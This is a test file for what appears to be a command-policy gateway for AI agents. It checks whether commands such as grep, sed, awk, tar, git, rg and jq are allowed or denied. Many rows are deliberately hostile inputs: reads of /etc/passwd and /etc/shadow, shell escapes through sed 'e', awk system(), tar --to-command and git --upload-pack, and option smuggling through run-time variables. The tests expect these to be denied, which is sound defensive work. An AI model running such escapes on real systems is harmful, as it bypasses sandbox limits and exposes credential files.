"""Program models through the shipped policy: what each command decides, and why.

Every row goes through `evaluate` (the whole decision, as `gateway check` and every run call
make it). The rows marked `old:` were decided otherwise before the models: an honest command
denied or asked about, or (for class 2) an option a run-time value could become.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from gateway.decision import Verdict
from gateway.pipeline import evaluate
from gateway.policy.compile import CompiledPolicy
from gateway.policy.selftest import load_checked

ALLOW, ASK, DENY = Verdict.ALLOW, Verdict.ASK, Verdict.DENY


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ws = tmp_path_factory.mktemp("ws")
    (ws / "src").mkdir()
    (ws / "src" / "app.py").write_text("class A:\n    pass\n\n# TODO x\n")
    (ws / "README.md").write_text("hello\n")
    (ws / "Makefile").write_text("PREFIX=/usr/local\n")
    return ws


@pytest.fixture(scope="module")
def policy(ws: Path) -> CompiledPolicy:
    return load_checked(Path("policies/default.yaml"), ws)


# (command, verdict, the code of the first reason when not allowed)
ROWS = [
    # --- class 5: the pattern is not a path ----------------------------------------------
    ("grep -n '/usr/local' Makefile", ALLOW, ""),  # old: deny, /usr/local outside the roots
    ("grep -e /etc/passwd -e root README.md", ALLOW, ""),  # old: deny
    ("grep -rn --include='*.py' '/api/v1' src", ALLOW, ""),  # old: deny
    ("grep -c TODO $(find src -name '*.py')", ALLOW, ""),
    ("grep x /etc/passwd", DENY, "outside_read_roots"),
    ("grep -f /etc/passwd README.md", DENY, "outside_read_roots"),  # patterns read from a file
    ("grep --exclude-from=/etc/passwd -r x .", DENY, "outside_read_roots"),
    ("grep --exclude-fr=/etc/passwd -r x .", DENY, "outside_read_roots"),  # a unique prefix
    ("grep -e x -- /etc/passwd", DENY, "outside_read_roots"),
    ("grep -ef /etc/passwd README.md", DENY, "outside_read_roots"),  # -e takes 'f': /etc/passwd is a file
    ("grep -R root .", DENY, "no_rule"),  # the policy's choice: -R follows every symlink
    ("grep --frobnicate x README.md", DENY, "no_rule"),  # not in the model: nothing is guessed
    ("grep --no x README.md", DENY, "no_rule"),  # an ambiguous prefix (--no-filename, --no-messages...)
    # --- class 2: a word known only at run time where an option could be ------------------
    ("grep $PAT README.md", DENY, "no_rule"),  # $PAT could be -f/etc/passwd
    ('grep -e "$PAT" README.md', ALLOW, ""),  # the value of -e: only ever a pattern
    ('grep -- "$PAT" README.md', ALLOW, ""),
    ("sort $(git ls-files)", DENY, "no_rule"),  # a tracked file named --compress-program=...
    ("sort $(find src -name '*.txt')", DENY, "no_rule"),  # split at blanks: 'src/x --compress-program=sh'
    ("sort -- $(find src -name '*.txt')", ALLOW, ""),
    ("wc -l $(find src -name '*.py')", ALLOW, ""),  # wc's options only read: the sandbox bounds them
    ("sed -n p $(find src -name '*.py')", DENY, "no_rule"),  # 'x -i' would make sed write
    # --- sort -----------------------------------------------------------------------------
    ("sort -o out.txt README.md", ALLOW, ""),  # old: deny (-o forbidden); now a jailed write
    ("sort -o /etc/x README.md", DENY, "outside_write_roots"),
    ("sort -T /tmp README.md", DENY, "outside_write_roots"),
    ("sort --random-source=/etc/shadow -R README.md", DENY, "outside_read_roots"),
    ("sort --compress-prog=sh README.md", DENY, "no_rule"),
    ("sort --files0-from=/etc/x", DENY, "outside_read_roots"),
    # --- class 6: sed scripts are parsed ----------------------------------------------------
    ("sed -n '/^class /,/^$/p' src/app.py", ALLOW, ""),  # old: ask
    ("sed -n '/TODO/w todo.txt' src/app.py", ALLOW, ""),  # old: ask; a w to a workspace file
    ("sed -i 's/hello/bye/' README.md", ALLOW, ""),  # old: ask
    ("sed '1a foo; 2e uname' README.md", ALLOW, ""),  # the e is appended text
    ("sed 's/x/e/' README.md", ALLOW, ""),  # the e is replacement text
    ("sed -e '2e uname' README.md", DENY, "no_rule"),  # old: ask
    ("sed 's/x/id/e' README.md", DENY, "no_rule"),
    ("sed -n -e p -e '$e id' README.md", DENY, "no_rule"),
    ("sed '1!G;h;$!d;e' README.md", DENY, "no_rule"),
    ("sed 's/a/b/w /etc/x' README.md", DENY, "outside_write_roots"),
    ("sed -n 'w /tmp/x' README.md", DENY, "outside_write_roots"),
    ("sed '1r /etc/passwd' README.md", DENY, "outside_read_roots"),
    ("sed '1R /etc/passwd' README.md", DENY, "outside_read_roots"),
    ("sed -n '/x/W .git/config' README.md", DENY, "protected_path"),
    ("sed -i.bak 's/a/b/' README.md", ALLOW, ""),
    ("sed -i'../../../../../../tmp/*' 's/a/b/' README.md", DENY, "outside_write_roots"),  # the backup
    ("sed -i 's/a/b/' /etc/hosts", DENY, "outside_read_roots"),  # read first, and written
    ("sed -f s.sed README.md", DENY, "no_rule"),  # a script file may change before it runs
    ('sed "s/a/$X/" README.md', DENY, "no_rule"),  # a script known only at run time
    ("sed 'k' README.md", DENY, "no_rule"),  # not sed: refused, not guessed
    # --- class 6: awk programs ---------------------------------------------------------------
    ("awk '/a|b/ {print $1}' README.md", ALLOW, ""),  # old: deny (the | in a regex)
    ("awk '$3 > 10 {print > \"big.txt\"}' README.md", ALLOW, ""),  # old: deny; a jailed write
    ("awk 'BEGIN { x = 4 / 2; s = \"/\"; print s, x }'", ALLOW, ""),
    ("awk -v n=3 '$1 > n' OFS=, README.md", ALLOW, ""),
    ("awk '{print > \"/etc/x\"}' README.md", DENY, "outside_write_roots"),
    ("awk '{print $1 >> \"/tmp/log\"}' README.md", DENY, "outside_write_roots"),
    ("awk '{print > $2}' README.md", DENY, "unknown_path"),
    ("awk 'BEGIN {system(\"id\")}'", DENY, "no_rule"),
    ('awk \'BEGIN {print "id" | "sh"}\'', DENY, "no_rule"),
    ("awk 'BEGIN {\"id\" | getline x}'", DENY, "no_rule"),
    ('awk \'BEGIN {f = "system"; @f("id")}\'', DENY, "no_rule"),
    ('awk \'/"/ {print} ; BEGIN { system("id") }\'', DENY, "no_rule"),  # no string hides it
    ("awk 'BEGIN{print ENVIRON[\"HOME\"]}'", DENY, "no_rule"),
    ("awk -f prog.awk README.md", DENY, "no_rule"),
    ("awk -W exec prog.awk", DENY, "no_rule"),
    ("awk '{print}' /etc/passwd", DENY, "outside_read_roots"),
    ("awk '{print}' -v /etc/passwd", DENY, "outside_read_roots"),  # awk does not permute: two files
    # --- find ---------------------------------------------------------------------------------
    ("find . -name '*.md' -fprint list.txt", ALLOW, ""),  # old: deny (-fprint forbidden)
    ("find . -fprintf /tmp/x '%p'", DENY, "outside_write_roots"),
    ("find src -newer /etc/passwd", DENY, "outside_read_roots"),
    ("find . -samefile /etc/shadow", DENY, "outside_read_roots"),
    ("find . -delete", DENY, "no_rule"),  # the policy's choice: deleting asks, through rm
    ("find . -exec rm {} \\;", DENY, "no_rule"),
    ("find . -frobnicate", DENY, "no_rule"),
    # --- cat, head, tail, wc --------------------------------------------------------------------
    ("head -n 20 src/app.py", ALLOW, ""),
    ("tail -n +2 README.md", ALLOW, ""),
    ("wc -l src/*.py", ALLOW, ""),
    ("cat -- $F", DENY, "no_rule"),  # the rule does not accept run-time values
    ("head -c 10 /etc/shadow", DENY, "outside_read_roots"),
    # --- git, per subcommand (gateway/programs/git.yaml) -------------------------------------
    ('git rev-parse --short "$GIT_SHA"', ALLOW, ""),  # old: deny (the revision taken for a path)
    ('git rev-parse --verify --quiet "refs/tags/$TAG"', ALLOW, ""),  # old: deny
    ('git switch -C "$branch"', ALLOW, ""),  # old: deny (the branch name taken for a path)
    ('git commit -m "see $(git rev-parse --short HEAD)"', ALLOW, ""),  # old: deny (the message, a path)
    ("git grep -n /usr/local -- src", ALLOW, ""),  # old: deny (the pattern, a path)
    ("git log -5 --format=%H -- README.md", ALLOW, ""),
    ("git checkout -- src/app.py", ALLOW, ""),
    ("git rev-parse $GIT_SHA", DENY, "no_rule"),  # unquoted: split, it could be several options
    ('git rev-parse "$V" /etc', DENY, "outside_read_roots"),  # $V could be --resolve-git-dir: /etc is read
    ('git diff "$V"', DENY, "no_rule"),  # git diff's model is not complete: $V could be --output=...
    ('git reset --hard "$TAG"', DENY, "no_rule"),  # $V could be --pathspec-from-file=/etc/x
    # git reset with a mode other than --mixed takes a commit, never a path (git dies on one)
    ('git reset --hard "origin/$BRANCH"', ALLOW, ""),  # old: deny (the revision taken for a written path)
    ('git reset --soft "HEAD~$N"', ALLOW, ""),  # old: deny
    ("git reset --hard origin/$BRANCH", DENY, "no_rule"),  # unquoted: split, it could be options
    ('git reset -- "$F"', DENY, "unknown_path"),  # no mode: a path (its index entry)
    ("git reset --hard --mixed HEAD -- /etc/passwd", DENY, "outside_write_roots"),  # the last mode wins
    ("git reset --hard --pathspec-from-file=/etc/passwd", DENY, "outside_read_roots"),
    ("git reset --hard --no-hard HEAD -- /etc/passwd", DENY, "no_rule"),  # --no-hard: no mode; not modelled
    ("git add -e src/app.py", DENY, "no_rule"),  # old: allow; the editor runs
    ("git grep -O sh x", DENY, "no_rule"),
    ("git grep --textconv x", DENY, "no_rule"),
    ("git diff --ext-diff", DENY, "no_rule"),
    ("git log --output=/tmp/x", DENY, "no_rule"),
    ("git log --outp=/tmp/x", DENY, "no_rule"),  # git takes no abbreviation here, and nor does the model
    ("git checkout -- /etc/passwd", DENY, "outside_write_roots"),
    ("git restore --source=HEAD -- ../x", DENY, "outside_write_roots"),
    ("git commit -F /etc/passwd", DENY, "outside_read_roots"),  # the message from a file
    ("git commit -t /etc/passwd", DENY, "outside_read_roots"),  # old: no_rule (--template forbidden)
    ("git add --pathspec-from-file=list.txt", DENY, "unknown_path"),  # the files it names: run time
    ("git commit --frobnicate", DENY, "no_rule"),  # not in the model: nothing is guessed
    ("git -c core.pager=sh log", DENY, "no_rule"),
    ("git fetch --upload-pack='sh -c id' origin", DENY, "denied"),
    # --- rg (gateway/programs/rg.yaml) ---------------------------------------------------------
    ("rg -e /etc/passwd src", ALLOW, ""),  # old: deny (the pattern taken for a path)
    ("rg -n '/usr/local' Makefile", ALLOW, ""),  # old: deny
    ("rg --files src", ALLOW, ""),
    ("rg x /etc", DENY, "outside_read_roots"),
    ("rg --files /etc", DENY, "outside_read_roots"),  # --files: every operand is a path
    ("rg -f /etc/shadow src", DENY, "outside_read_roots"),
    ("rg --ignore-file=/etc/passwd x .", DENY, "outside_read_roots"),
    ("rg --pre=sh x", DENY, "no_rule"),
    ("rg --pr=sh x", DENY, "no_rule"),  # rg takes no abbreviation, nor does the model
    ("rg $PAT src", DENY, "no_rule"),  # $PAT could be --pre=sh
    # --- wrappers whose operand is a command (gateway/analysis/wrappers.py) ----------------------
    ("xargs sh -c id", DENY, "denied"),  # the command after xargs is decided as a command
    ("xargs -I{} sh -c 'cat {}'", DENY, "dynamic_shell_script"),
]


@pytest.mark.parametrize(("command", "verdict", "code"), ROWS, ids=[r[0][:70] for r in ROWS])
def test_decision(policy: CompiledPolicy, ws: Path, command: str, verdict: Verdict, code: str) -> None:
    decision = evaluate(policy, command, "agent", ws).decision
    assert decision.verdict is verdict, decision
    if code:
        assert decision.reasons[0].code == code, decision


def test_check_json_says_what_the_model_took(ws: Path) -> None:
    text = "grep -n '/usr/local' Makefile && sed -n '/TODO/w todo.txt' src/app.py | sort -k2 -o out.txt"
    out = subprocess.run(
        [sys.executable, "-m", "gateway", "check", "--json", "--workspace", str(ws), "--", text],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    result = json.loads(out.stdout)
    assert result["decision"] == "allow", result
    grep, sed, sort = (c["model"] for c in result["commands"])
    assert grep == {"model": "grep", "options": ["-n"], "read": ["Makefile"], "write": [], "patterns": ["/usr/local"],
                    "scripts": [], "applied": True}  # fmt: skip
    assert sed["read"] == ["src/app.py"] and sed["write"] == ["todo.txt"]
    assert sed["scripts"] == ["/TODO/w todo.txt"]
    assert sort["write"] == ["out.txt"] and sort["options"] == ["-k", "-o"] and sort["values"] == ["2"]


def test_check_json_shows_the_model_even_where_the_rule_overrides_it(tmp_path: Path) -> None:
    (tmp_path / "p.yaml").write_text(
        "version: 1\nworkspace: ws\nprincipals: {agent: {roles: [r]}}\n"
        "roles: {r: {level: 1, read_roots: ['.']}}\ntools: {run: {allow_from: 1}}\nrules:\n"
        "  - {id: g, decision: allow, justification: j, programs: [grep], path_args: {read: all},\n"
        "     examples: {match: ['grep x f']}}\n"
    )
    (tmp_path / "ws").mkdir()
    policy = load_checked(tmp_path / "p.yaml")
    result = evaluate(policy, "grep -n '/usr/local' Makefile", "agent").to_json()
    assert result["decision"] == "deny"  # the rule's path_args take the pattern for a path
    assert result["commands"][0]["model"]["applied"] is False
    assert result["commands"][0]["model"]["patterns"] == ["/usr/local"]


def test_a_run_time_word_that_could_be_a_forbidden_option_is_refused(tmp_path: Path) -> None:
    """Class 2 through a complete model: "$V" could be any option of git rev-parse, so a rule
    forbidding one of them does not match (it would, were "$V" only taken for an operand)."""
    (tmp_path / "p.yaml").write_text(
        "version: 1\nworkspace: ws\nprincipals: {agent: {roles: [r]}}\n"
        "roles: {r: {level: 1, read_roots: ['.']}}\ntools: {run: {allow_from: 1}}\nrules:\n"
        "  - {id: g, decision: allow, justification: j, programs: [git], subcommands: [rev-parse],\n"
        "     forbidden_options: [--show-toplevel], accept_unknown: true,\n"
        "     examples: {match: ['git rev-parse HEAD'], not_match: ['git rev-parse --show-toplevel']}}\n"
    )
    (tmp_path / "ws").mkdir()
    policy = load_checked(tmp_path / "p.yaml")
    decision = evaluate(policy, 'git rev-parse --short "$V"', "agent").decision
    assert decision.verdict is DENY and "could be the option --show-toplevel" in decision.reasons[0].message
    assert evaluate(policy, 'git rev-parse --short -- "$V"', "agent").decision.verdict is ALLOW


def _policy(tmp_path: Path, rules: str) -> CompiledPolicy:
    (tmp_path / "p.yaml").write_text(
        "version: 1\nworkspace: ws\nprincipals: {agent: {roles: [r]}}\n"
        "roles: {r: {level: 1, read_roots: ['.'], write_roots: ['.']}}\ntools: {run: {allow_from: 1}}\n"
        "rules:\n" + rules
    )
    (tmp_path / "ws").mkdir(exist_ok=True)
    (tmp_path / "ws" / "src").mkdir(exist_ok=True)
    (tmp_path / "ws" / "README.md").write_text("hello\n")
    return load_checked(tmp_path / "p.yaml")


MODEL_RULES = (
    "  - {id: m, decision: allow, justification: j, programs: [tar, ps, kill, cat], accept_unknown: true, env: [CI],\n"
    "     examples: {match: ['ps aux']}}\n"
    "  - {id: w, decision: allow, justification: j, programs: [env], accept_unknown: true,\n"
    "     examples: {match: ['env CI=1 cat README.md']}}\n"
)
# (command, verdict, the code of the first reason when not allowed), under a policy whose rules
# name tar, ps, kill, cat and env with no path handling of their own: the models decide
MODEL_ROWS = [
    ("tar -czf out.tgz src", ALLOW, ""),
    ("tar -tzf out.tgz", ALLOW, ""),
    ("tar -cf /tmp/x.tar src", DENY, "outside_write_roots"),
    ("tar -czf out.tgz /etc", DENY, "outside_read_roots"),
    ("tar -xzf out.tgz", ALLOW, ""),  # the members go under the cwd (tar keeps /x and ../x there: tests/sandbox)
    ("tar -xPf out.tgz", DENY, "unknown_path"),  # -P: members named /x or ../x land there
    ("tar -xf x.tar --to-command=sh", DENY, "no_rule"),
    ("tar -I 'sh -c id' -cf a.tar src", DENY, "no_rule"),
    ("tar --use-compress-prog=sh -cf a.tar src", DENY, "no_rule"),  # a unique prefix
    ("tar --checkpoint=1 --checkpoint-action=exec=id -cf a.tar src", DENY, "no_rule"),
    ("tar -cf evil:a.tar src", DENY, "no_rule"),  # a remote archive: tar runs rsh
    ("tar xzf out.tgz", ALLOW, ""),  # the old form, read as tar reads it
    ("tar xzfI out.tgz sh", DENY, "no_rule"),  # ... -I sh among its options
    ("tar -cf a.tar -T /etc/list", DENY, "outside_read_roots"),
    ("tar -czf out.tgz -C /etc .", DENY, "outside_read_roots"),  # -C: what follows is read in /etc
    ("tar -xzf out.tgz -C /tmp", DENY, "outside_read_roots"),
    ("ps aux", ALLOW, ""),
    ("ps -eo pid,comm --sort=-%mem", ALLOW, ""),
    ("kill -9 1234", ALLOW, ""),
    ("env CI=1 cat README.md", ALLOW, ""),
    ("env cat /etc/passwd", DENY, "outside_read_roots"),
    ("env -C /etc cat passwd", DENY, "unsupported_wrapper_option"),  # old: cat passwd checked here, run in /etc
    ("env --chdir=/etc cat passwd", DENY, "unsupported_wrapper_option"),
    ("env -S 'cat /etc/passwd'", DENY, "unsupported_wrapper_option"),
]


@pytest.mark.parametrize(("command", "verdict", "code"), MODEL_ROWS, ids=[r[0][:70] for r in MODEL_ROWS])
def test_model_decision(tmp_path: Path, command: str, verdict: Verdict, code: str) -> None:
    policy = _policy(tmp_path, MODEL_RULES)
    decision = evaluate(policy, command, "agent", tmp_path / "ws").decision
    assert decision.verdict is verdict, decision
    if code:
        assert decision.reasons[0].code == code, decision


# jq through the strict example (its rule relies on jq's model)
JQ_ROWS = [
    ("jq -r '.packages[0].version' package.json", ALLOW, ""),
    ("jq -n --arg v /etc/passwd '{v: $v}'", ALLOW, ""),  # a value, not a path
    ("jq --rawfile a /etc/shadow -n '$a'", DENY, "outside_read_roots"),
    ("jq --slurpfile a /etc/passwd -n '$a'", DENY, "outside_read_roots"),
    ("jq -n 'include \"/etc/x\"; 1'", DENY, "no_rule"),  # old: allow (the filter jailed as a path)
    ("jq 'import \"m\" as m; m::f' package.json", DENY, "no_rule"),
    ("jq -f prog.jq package.json", DENY, "no_rule"),  # old: allow; a filter the gateway cannot see
    ("jq -rf prog.jq package.json", DENY, "no_rule"),
    ("jq --run-tests t.txt", DENY, "no_rule"),
    ("jq . /etc/passwd", DENY, "outside_read_roots"),
    ("jq $F package.json", DENY, "no_rule"),
]


@pytest.mark.parametrize(("command", "verdict", "code"), JQ_ROWS, ids=[r[0][:70] for r in JQ_ROWS])
def test_jq_decision(ws: Path, command: str, verdict: Verdict, code: str) -> None:
    policy = load_checked(Path("policies/examples/read-mostly.yaml"), ws)
    decision = evaluate(policy, command, "agent", ws).decision
    assert decision.verdict is verdict, decision
    if code:
        assert decision.reasons[0].code == code, decision
